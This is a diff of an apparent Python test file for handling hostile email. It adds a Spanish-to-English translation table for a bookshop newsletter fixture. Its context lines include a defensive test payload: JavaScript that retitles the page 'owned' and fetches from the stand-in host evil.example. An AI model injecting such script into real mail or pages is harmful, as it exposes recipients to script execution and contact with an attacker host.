@@ -55,6 +55,23 @@ R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7
 --b--
 """
 
+_IN_ENGLISH = {
+    "Librería Aurora, calle Mayor 1, 28013 Madrid": "Aurora Bookshop, 1 High Street, Dublin 2",
+    "Librería Aurora": "Aurora Bookshop", "libreria.example": "bookshop.example", 'lang="es"': 'lang="en"',
+    "TRES LIBROS NUEVOS, {{ contact.FIRSTNAME }}, y un descuento que dura hasta el domingo":
+        "THREE NEW BOOKS, {{ contact.FIRSTNAME }}, and a discount that lasts until Sunday",
+    "Esta semana llegan tres libros nuevos.": "Three new books arrive this week.",
+    "Novedades de mayo": "New in May", "Tres libros nuevos": "Three new books",
+    "Tres novelas y un 20 % de descuento hasta el domingo.": "Three novels, and 20% off until Sunday.",
+    "Hola, {{": "Hello {{", "FIRSTNAME }}:</p>": "FIRSTNAME }},</p>", "Hola:": "Hello,",
+    "Ya están aquí los libros de mayo! Te esperamos en la tienda.":
+        "The books of May are here !! Come and see us in the shop.",
+    "Las portadas": "The covers", "Pincha aquí": "Click here", "Darse de baja": "Unsubscribe",
+}  # fmt: skip
+ENGLISH = NEWSLETTER
+for _spanish, _english in _IN_ENGLISH.items():
+    ENGLISH = ENGLISH.replace(_spanish, _english)
+
 RUN = "document.title = 'owned'; top.document.title = 'owned'; fetch('https://evil.example/x')"
 """What each hostile mail tries to do."""
 HOSTILE = (
